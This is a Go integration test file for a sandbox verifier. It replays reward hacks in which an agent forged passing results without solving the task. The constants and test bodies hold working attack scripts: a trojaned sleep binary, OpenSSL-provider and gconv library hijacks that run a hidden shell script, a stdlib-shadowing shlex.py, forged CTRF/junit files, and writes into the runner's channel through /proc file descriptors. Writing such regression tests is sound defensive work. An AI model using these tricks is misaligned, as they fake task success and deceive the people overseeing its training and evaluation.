package sandbox_test

// Reward hacks an adversarial review found in the sealed verifier (stop 49),
// each a way an agent, through its shell alone, made the verifier resolve a
// task it never solved (40 forged passes, reward 2.0 at S = 20). Each test
// plays the cheat against the real Verify on a sandbox made as a rollout's is
// and fails if the task resolves untampered; every one resolved before its
// fix. Their comments describe the hole as it was. The shared objects the
// agent writes are built with the host's gcc (scripts/ensure-sandbox-host.sh
// installs it); an agent would write the same bytes with base64 -d.

import (
	"bytes"
	"context"
	"encoding/base64"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"time"

	"github.com/t1flow/t1flow/activities"
	"github.com/t1flow/t1flow/internal/task"
	"github.com/t1flow/t1flow/internal/testenv"
	"github.com/t1flow/t1flow/sandbox"
)

// probeRig is one sandbox of a task, made the way a rollout makes it
// (Docker.Start: the real keepalive, caps, limits, toolchain), and the
// activities that verify it (activities.Verify: survey, tamper check,
// sealed run, results, runner channel).
type probeRig struct {
	t   *testing.T
	d   *sandbox.Docker
	a   *activities.Activities
	ref task.Ref
	id  string
}

func newProbeRig(t *testing.T, taskDir string) *probeRig {
	d := testenv.Docker(t)
	sb := testenv.StartTaskSandbox(t, d, taskDir, "probe")
	st, ref, id := sb.Store, sb.Ref, sb.ID
	return &probeRig{t: t, d: d, a: &activities.Activities{Docker: d, Store: st, TaskCache: t.TempDir()}, ref: ref, id: id}
}

// agent runs script as the agent's shell would (root, in the workdir).
func (r *probeRig) agent(script string) string {
	r.t.Helper()
	res, err := r.d.Exec(context.Background(), r.id, script, sandbox.ExecOptions{Timeout: 2 * time.Minute, User: "root", WorkDir: "/app"})
	if err != nil || res.ExitCode != 0 {
		r.t.Fatalf("agent command: exit %d, %v: %s", res.ExitCode, err, res.Output)
	}
	return res.Output
}

// mustNotResolve runs the real Verify and fails when the cheat resolved the
// task untampered.
func (r *probeRig) mustNotResolve() {
	r.t.Helper()
	vr, err := r.a.Verify(context.Background(), activities.VerifyInput{
		Sandbox: activities.Sandbox{ContainerID: r.id, Name: "probe"}, Task: r.ref, RolloutID: "probe",
	})
	if err != nil {
		r.t.Logf("Verify: %v (the cheat did not score)", err)
		return
	}
	var reward any
	if vr.Reward != nil {
		reward = *vr.Reward
	}
	r.t.Logf("Verify: resolved %v, reward %v (%s), %d/%d passed, exit %d, tampered %v, preview:\n%s",
		vr.Resolved, reward, vr.Format, vr.Passed, vr.Total, vr.ExitCode, vr.Tampered, vr.Preview)
	if vr.Resolved && len(vr.Tampered) == 0 {
		r.t.Fatalf("the cheat resolved the task with nothing solved: reward %v from %s, not tampered", reward, vr.Format)
	}
}

// keepaliveSleep replaces the container's sleep. The sandbox's PID 1 (the
// keepalive, `while :; do sleep 86400 & wait $!; done`) runs `sleep` from the
// container's PATH again each time the verifier's kill -9 -1 kills the last
// one, so the agent's program is started again, as root, right after every
// kill (the survey's, and ToolchainRunCmd's last one). It waits for test.sh
// to start, writes a CTRF of 40 passed tests, reward.txt = 1 and the
// runner's mark, and kills test.sh before pytest opens a session on the
// channel (so RunnerDisagrees has nothing to compare).
const keepaliveSleep = `set -e
cp /usr/bin/sleep /usr/bin/.sleep.real
cat > /usr/bin/.sleep.new <<'EOF'
#!/bin/bash
[ "$PPID" = 1 ] && [ ! -e /dev/shm/.done ] || exec /usr/bin/.sleep.real "$@"
while :; do
  for p in /proc/[0-9]*; do
    c=$(tr '\0' ' ' < $p/cmdline 2>/dev/null) || continue
    case $c in *"--noprofile -c "*" /tests/test.sh"*)
      [ -d /logs/verifier ] || continue
      t=; for i in $(seq 1 40); do t="$t{\"name\":\"test_outputs.py::test_$i\",\"status\":\"passed\"},"; done
      echo "{\"results\":{\"tool\":{\"name\":\"pytest\"},\"tests\":[${t%,}]}}" > /logs/verifier/ctrf.json
      echo 1 > /logs/verifier/reward.txt
      mkdir -p /tmp/.t1flow-verify && : > /tmp/.t1flow-verify/runner-started
      : > /dev/shm/.done
      kill -9 -1
      exec /usr/bin/.sleep.real "$@";;
    esac
  done
  /usr/bin/.sleep.real 0.02
done
EOF
chmod 755 /usr/bin/.sleep.new
mv /usr/bin/.sleep.new /usr/bin/sleep
echo planted`

// TestProbeKeepaliveRespawnsAgentSleep: the agent solves nothing and only
// replaces /usr/bin/sleep. The sealed verifier must not resolve the task.
func TestProbeKeepaliveRespawnsAgentSleep(t *testing.T) {
	if !testenv.Required() {
		t.Skip("integration test: set T1FLOW_INTEGRATION=1")
	}
	r := newProbeRig(t, filepath.Join(testenv.RepoRoot(), "examples/tb2/word-frequency"))
	r.agent(keepaliveSleep)
	r.mustNotResolve()
}

// forgeAndKill is what the agent's code does once it runs inside the
// verifier (test.sh started, pytest not yet): a CTRF of 40 passed tests,
// reward.txt = 1 and the runner's mark, then every other process killed,
// test.sh's with them, before pytest opens a session on the channel.
const forgeAndKill = `[ -d /logs/verifier ] && [ -e /tests/test.sh ] || exit 0
t=; for i in $(seq 1 40); do t="$t{\"name\":\"test_outputs.py::test_$i\",\"status\":\"passed\"},"; done
echo "{\"results\":{\"tool\":{\"name\":\"pytest\"},\"tests\":[${t%,}]}}" > /logs/verifier/ctrf.json
echo 1 > /logs/verifier/reward.txt
mkdir -p /tmp/.t1flow-verify && : > /tmp/.t1flow-verify/runner-started
kill -9 -1
`

// TestProbeOpenSSLConfigProvider: the toolchain's libcrypto (curl's, and
// Python's hashlib/ssl) reads its configuration from the container's
// OPENSSLDIR, /usr/lib/ssl/openssl.cnf (a link to /etc/ssl/openssl.cnf). The
// agent names a provider module of its own there; test.sh's first `curl`
// (TB2's installer line; Python's `import hashlib` does the same) dlopens it
// by absolute path, and its constructor runs the agent's shell script inside
// the verifier. The agent writes the .so's bytes with base64 (here built on
// the host: a constructor that calls system()).
func TestProbeOpenSSLConfigProvider(t *testing.T) {
	if !testenv.Required() {
		t.Skip("integration test: set T1FLOW_INTEGRATION=1")
	}
	so := buildSO(t, `#include <stdlib.h>
__attribute__((constructor)) static void init(void) { system("/bin/sh /app/.x.sh"); }
`)
	r := newProbeRig(t, filepath.Join(testenv.RepoRoot(), "examples/tb2/word-frequency"))
	r.agent(`set -e
echo '` + base64.StdEncoding.EncodeToString(so) + `' | base64 -d > /app/.p.so
cat > /app/.x.sh <<'SH'
` + forgeAndKill + `SH
mkdir -p /usr/lib/ssl
rm -f /usr/lib/ssl/openssl.cnf
cat > /usr/lib/ssl/openssl.cnf <<'CNF'
openssl_conf = openssl_init
[openssl_init]
providers = provider_sect
[provider_sect]
evil = evil_sect
[evil_sect]
module = /app/.p.so
activate = 1
CNF
echo planted`)
	r.mustNotResolve()
}

// TestProbeGconvOverridesUTF8: the toolchain's glibc reads the container's
// gconv configuration (/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d, and
// its gconv-modules.cache when there is one) the first time it converts
// multibyte text. A module line of the agent's for the builtin UTF-8
// conversion (ISO-10646/UTF8/, cost 1: a configured module beats the
// builtin of the same cost) and the cache removed make every sealed process
// in a UTF-8 locale dlopen the agent's .so by absolute path: the toolchain's
// Python always (PEP 538 coerces C to C.UTF-8, before the guard exists),
// and test.sh's bash when the image sets LANG=C.UTF-8. No curl, no OpenSSL:
// a task whose test.sh is `python3 -m pytest ...` (examples/tasks).
func TestProbeGconvOverridesUTF8(t *testing.T) {
	if !testenv.Required() {
		t.Skip("integration test: set T1FLOW_INTEGRATION=1")
	}
	so := buildSO(t, `#include <stdlib.h>
__attribute__((constructor)) static void init(void) {
	if (getenv("T1PWN")) return;
	setenv("T1PWN", "1", 1);
	system("/bin/sh /app/.x.sh");
}
`)
	r := newProbeRig(t, filepath.Join(testenv.RepoRoot(), "examples/tasks/csv-revenue-report"))
	r.agent(`set -e
echo '` + base64.StdEncoding.EncodeToString(so) + `' | base64 -d > /app/.g.so
cat > /app/.x.sh <<'SH'
` + forgeAndKill + `SH
g=/usr/lib/x86_64-linux-gnu/gconv
mkdir -p $g/gconv-modules.d
printf 'module ISO-10646/UTF8/ INTERNAL /app/.g 1\nmodule INTERNAL ISO-10646/UTF8/ /app/.g 1\n' > $g/gconv-modules.d/zz-utf8.conf
rm -f $g/gconv-modules.cache
echo planted`)
	r.mustNotResolve()
}

// TestProbeWorkdirShadowsStdlib: test.sh runs `python3 -m pytest` in the
// image's WORKDIR (the shape the workdir-shadow check exists for), so the
// working directory is first on sys.path. The tamper check flags pytest's
// own module names there (tamperShadowModules), not the standard library's:
// /app/shlex.py (imported by _pytest.config) loads the real shlex and starts
// a detached shell. The task's tests never import the agent's code, and the
// agent writes no solution at all. The shell stops test.sh's bash, waits for
// pytest to finish, replaces junit.xml with 40 invented passed tests and
// writes the matching "report passed" lines into the runner's channel
// (/proc/<test.sh's bash>/fd/61).
func TestProbeWorkdirShadowsStdlib(t *testing.T) {
	if !testenv.Required() {
		t.Skip("integration test: set T1FLOW_INTEGRATION=1")
	}
	dir := filepath.Join(t.TempDir(), "csv-revenue-report-workdir")
	if out, err := exec.Command("cp", "-r", filepath.Join(testenv.RepoRoot(), "examples/tasks/csv-revenue-report"), dir).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v: %s", err, out)
	}
	if err := os.WriteFile(filepath.Join(dir, "tests/test.sh"), []byte(`#!/bin/bash
mkdir -p /logs/verifier
python3 -m pytest -q -p no:cacheprovider --rootdir=/tests --junitxml=/logs/verifier/junit.xml /tests/test_outputs.py
`), 0o755); err != nil {
		t.Fatal(err)
	}
	r := newProbeRig(t, dir)
	r.agent(`cat > /app/shlex.py <<'PY'
import os, subprocess, sys
_path = sys.path[:]
sys.path[:] = [p for p in sys.path if p not in ("", os.getcwd(), "/app")]
del sys.modules["shlex"]
import shlex as _real
sys.path[:] = _path
sys.modules["shlex"] = _real
globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})
if os.path.isdir("/tmp/.t1flow-verify"):
    subprocess.Popen(["bash", "/app/.d.sh"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
PY
cat > /app/.d.sh <<'SH'
[ -e /tmp/.t1flow-verify/.d ] && exit 0
: > /tmp/.t1flow-verify/.d
for p in /proc/[0-9]*; do
  c=$(tr '\0' ' ' < $p/cmdline 2>/dev/null) || continue
  case $c in */bash" --norc --noprofile -c "*" /tests/test.sh"*) b=${p#/proc/};; esac
done
kill -STOP $b
while :; do
  busy=
  for p in /proc/[0-9]*; do
    c=$(tr '\0' ' ' < $p/cmdline 2>/dev/null) || continue
    case $c in *"-m pytest"*) busy=1;; esac
  done
  [ -z "$busy" ] && [ -s /logs/verifier/junit.xml ] && break
  sleep 0.05
done
x='<testsuites><testsuite name="pytest">'
for i in $(seq 0 39); do
  x="$x<testcase classname=\"test_outputs\" name=\"test_forged_$i\"/>"
  echo "{\"ev\":\"report\",\"nodeid\":\"test_outputs.py::test_forged_$i\",\"when\":\"call\",\"outcome\":\"passed\"}" > /proc/$b/fd/61
done
echo "$x</testsuite></testsuites>" > /logs/verifier/junit.xml
kill -CONT $b
SH
echo planted`)
	r.mustNotResolve()
}

// buildSO compiles a shared object on the host (the agent would write the
// same bytes with base64 -d).
func buildSO(t *testing.T, src string) []byte {
	t.Helper()
	gcc, err := exec.LookPath("gcc")
	if err != nil {
		// make test installs it (scripts/ensure-sandbox-host.sh): a missing
		// gcc there fails the test rather than hiding the hack it checks.
		t.Fatalf("no gcc on the host to build the agent's shared object (Debian: apt-get install gcc): %v", err)
	}
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "p.c"), []byte(src), 0o644)
	if out, err := exec.Command(gcc, "-shared", "-fPIC", "-O2", "-s", "-o", filepath.Join(dir, "p.so"), filepath.Join(dir, "p.c")).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v: %s", err, out)
	}
	b, err := os.ReadFile(filepath.Join(dir, "p.so"))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// ctrfDropsFailures is a wrong /app/inventory.py (only load is right: one
// of five tests passes honestly) whose import, inside the sealed pytest,
// starts a detached shell (subprocess: no audit event the guard reports).
// That shell stops test.sh's bash, waits for pytest to write ctrf.json and
// exit, rewrites ctrf.json with the failed tests left out, makes
// reward.txt a directory (test.sh's `echo 0 > reward.txt` then fails) and
// lets test.sh go on. It also adds 40 invented passed tests to the CTRF and
// the matching "report passed" lines to the runner's channel, which it
// opens as /proc/<test.sh's bash>/fd/61. Every pass in the CTRF is then one
// the channel shows, so RunnerDisagrees finds nothing; the session's exit
// status 1 is never looked at for CTRF results.
const ctrfDropsFailures = `cat > /app/inventory.py <<'PY'
import csv, subprocess


def load(path):
    with open(path, newline="") as f:
        return [dict(r, qty=int(r["qty"]), price=float(r["price"])) for r in csv.DictReader(f)]


def in_stock(rows): return []
def value(rows): return 0
def restock(rows, sku, n): return rows


subprocess.Popen(["bash", "/app/.d.sh"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
PY
cat > /app/.d.sh <<'SH'
[ -e /tmp/.t1flow-verify/.d ] && exit 0
: > /tmp/.t1flow-verify/.d
for p in /proc/[0-9]*; do
  c=$(tr '\0' ' ' < $p/cmdline 2>/dev/null) || continue
  case $c in */bash" --norc --noprofile -c "*" /tests/test.sh"*) b=${p#/proc/};; esac
done
kill -STOP $b
while :; do
  busy=
  for p in /proc/[0-9]*; do
    c=$(tr '\0' ' ' < $p/cmdline 2>/dev/null) || continue
    case $c in *pytest*--ctrf*) busy=1;; esac
  done
  [ -z "$busy" ] && [ -s /logs/verifier/ctrf.json ] && break
  sleep 0.05
done
python3 - $b <<'PY'
import json, sys
p = "/logs/verifier/ctrf.json"
d = json.load(open(p))
forged = ["test_outputs.py::test_forged_%d" % i for i in range(40)]
d["results"]["tests"] = [t for t in d["results"]["tests"] if t["status"] == "passed"] + [{"name": n, "status": "passed"} for n in forged]
json.dump(d, open(p, "w"))
# The runner's channel is test.sh's descriptor 61: any process of the same
# user can open it through /proc and add lines the host believes.
with open("/proc/%s/fd/61" % sys.argv[1], "w") as ch:
    for n in forged:
        ch.write('{"ev":"report","nodeid":"%s","when":"call","outcome":"passed"}\n' % n)
PY
mkdir -p /logs/verifier/reward.txt
kill -CONT $b
SH
echo planted`

// TestProbeCTRFDropsFailures: a solution that gets one of five tests right
// must not resolve the task (or score 5/5 of its assertions).
func TestProbeCTRFDropsFailures(t *testing.T) {
	if !testenv.Required() {
		t.Skip("integration test: set T1FLOW_INTEGRATION=1")
	}
	r := newProbeRig(t, filepath.Join(testenv.RepoRoot(), "examples/tb2/inventory-module"))
	r.agent(ctrfDropsFailures)
	r.mustNotResolve()
}

// ownSession is a wrong /app/inventory.py (one of five tests passes
// honestly) whose import, inside the sealed pytest, starts a detached
// process of the agent's (a subprocess: no audit event the guard reports).
// It stops test.sh's bash (the exec stays open), waits for the real pytest
// to finish, and then looks for the runner's channel: descriptor 61 of every
// process it can see, reopened through /proc/<pid>/fd/61 (test.sh's bash,
// timeout and uv hold it), and, failing that, copied with pidfd_getfd. With
// one it runs a genuine pytest session of its own, the toolchain's Python and
// t1flow_mark plugin, 40 passing tests named like the task's, on that
// descriptor with the host's public share (read from the bash's
// /proc/<pid>/environ): the plugin agrees a key with the host and reports
// them, authenticated. It adds the 40 to ctrf.json and leaves the real
// failures in, so the task does not resolve; before the relay the host
// counted 41 passes. What it tried is left in /tmp/.own-session.
const ownSession = `cat > /app/inventory.py <<'PY'
import csv, subprocess


def load(path):
    with open(path, newline="") as f:
        return [dict(r, qty=int(r["qty"]), price=float(r["price"])) for r in csv.DictReader(f)]


def in_stock(rows): return []
def value(rows): return 0
def restock(rows, sku, n): return rows


subprocess.Popen(["/.t1flow-verifier/bin/python3", "/app/.d.py"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
PY
cat > /app/.d.py <<'PY'
import ctypes, glob, json, os, signal, subprocess, time

if os.path.exists("/tmp/.own-session"):
    raise SystemExit
log = open("/tmp/.own-session", "w", buffering=1)


def cmdline(p):
    try:
        return open("/proc/%s/cmdline" % p, "rb").read().replace(b"\0", b" ").decode()
    except OSError:
        return ""


def pids():
    return [int(p.rsplit("/", 1)[1]) for p in glob.glob("/proc/[0-9]*") if int(p.rsplit("/", 1)[1]) != os.getpid()]


bash = next(p for p in pids() if cmdline(p).startswith("/.t1flow-verifier/bin/bash --norc --noprofile -c") and cmdline(p).rstrip().endswith(" /tests/test.sh"))
os.kill(bash, signal.SIGSTOP)
while any("pytest" in cmdline(p) and "--ctrf" in cmdline(p) for p in pids()) or not (
        os.path.exists("/logs/verifier/ctrf.json") and os.path.getsize("/logs/verifier/ctrf.json")):
    time.sleep(0.05)


def channel():
    for p in pids():
        try:
            return os.open("/proc/%d/fd/61" % p, os.O_WRONLY), "reopened /proc/%d/fd/61 (%s)" % (p, cmdline(p)[:60])
        except OSError as e:
            log.write("/proc/%d/fd/61 (%s): %s\n" % (p, cmdline(p)[:60], e.strerror))
    libc = ctypes.CDLL(None, use_errno=True)
    for p in pids():
        pidfd = libc.syscall(434, p, 0)  # pidfd_open
        if pidfd < 0:
            continue
        fd = libc.syscall(438, pidfd, 61, 0)  # pidfd_getfd
        if fd >= 0:
            return fd, "pidfd_getfd %d 61 (%s)" % (p, cmdline(p)[:60])
        log.write("pidfd_getfd %d 61: %s\n" % (p, os.strerror(ctypes.get_errno())))
    return None, None


fd, how = channel()
if fd is not None:
    log.write("channel: " + how + "\n")
    # test.sh's environment, the host's share among it, with this session's
    # own tests counted as the verifier's code.
    env = dict(v.decode().split("=", 1) for v in open("/proc/%d/environ" % bash, "rb").read().split(b"\0") if b"=" in v)
    env.update(T1FLOW_CHANNEL_FD=str(fd), T1FLOW_TRUSTED_CODE=env.get("T1FLOW_TRUSTED_CODE", "") + ":/tmp/.own",
               PYTEST_ADDOPTS="-p t1flow_mark", PYTHONPATH="/.t1flow-verifier/plugins")
    os.makedirs("/tmp/.own", exist_ok=True)
    with open("/tmp/.own/test_outputs.py", "w") as f:
        f.write("".join("def test_forged_%d():\n    pass\n" % i for i in range(40)))
    r = subprocess.run(["/.t1flow-verifier/bin/python3", "-m", "pytest", "-q", "-p", "no:cacheprovider",
                        "--rootdir=/tmp/.own", "/tmp/.own/test_outputs.py"], cwd="/tmp/.own", env=env, pass_fds=(fd,),
                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    log.write("own session: exit %d, %s\n" % (r.returncode, r.stdout.strip().splitlines()[-1:]))
    p = "/logs/verifier/ctrf.json"
    d = json.load(open(p))
    d["results"]["tests"] += [{"name": "test_outputs.py::test_forged_%d" % i, "status": "passed"} for i in range(40)]
    json.dump(d, open(p, "w"))
else:
    log.write("no channel\n")
os.kill(bash, signal.SIGCONT)
PY
echo planted`

// TestProbeOwnPytestSessionOnTheChannel: a solution that gets one of five
// tests right must not have more than one pass counted, however it reaches
// the runner's channel from outside pytest: with test.sh as root (the
// relay's user, which has CAP_KILL but not CAP_SYS_PTRACE) and as another
// user (verifier.user).
func TestProbeOwnPytestSessionOnTheChannel(t *testing.T) {
	if !testenv.Required() {
		t.Skip("integration test: set T1FLOW_INTEGRATION=1")
	}
	src := filepath.Join(testenv.RepoRoot(), "examples/tb2/inventory-module")
	nobody := filepath.Join(t.TempDir(), "inventory-module-nobody")
	if out, err := exec.Command("cp", "-r", src, nobody).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v: %s", err, out)
	}
	toml, err := os.ReadFile(filepath.Join(nobody, "task.toml"))
	if err != nil {
		t.Fatal(err)
	}
	toml = bytes.Replace(toml, []byte("[verifier]\n"), []byte("[verifier]\nuser = \"nobody\"\n"), 1)
	if err := os.WriteFile(filepath.Join(nobody, "task.toml"), toml, 0o644); err != nil {
		t.Fatal(err)
	}
	for name, dir := range map[string]string{"root": src, "nobody": nobody} {
		t.Run(name, func(t *testing.T) {
			r := newProbeRig(t, dir)
			r.agent(ownSession)
			vr, err := r.a.Verify(context.Background(), activities.VerifyInput{
				Sandbox: activities.Sandbox{ContainerID: r.id, Name: "probe"}, Task: r.ref, RolloutID: "probe",
			})
			if err != nil {
				t.Fatalf("Verify: %v", err)
			}
			t.Logf("Verify: resolved %v, %d/%d passed, tampered %v; the agent's process:\n%s",
				vr.Resolved, vr.Passed, vr.Total, vr.Tampered, r.agent("cat /tmp/.own-session 2>&1; true"))
			if vr.Resolved || vr.Passed > 1 && len(vr.Tampered) == 0 {
				t.Fatalf("a session of the agent's own on the channel: %d/%d passed counted, resolved %v, not tampered", vr.Passed, vr.Total, vr.Resolved)
			}
		})
	}
}
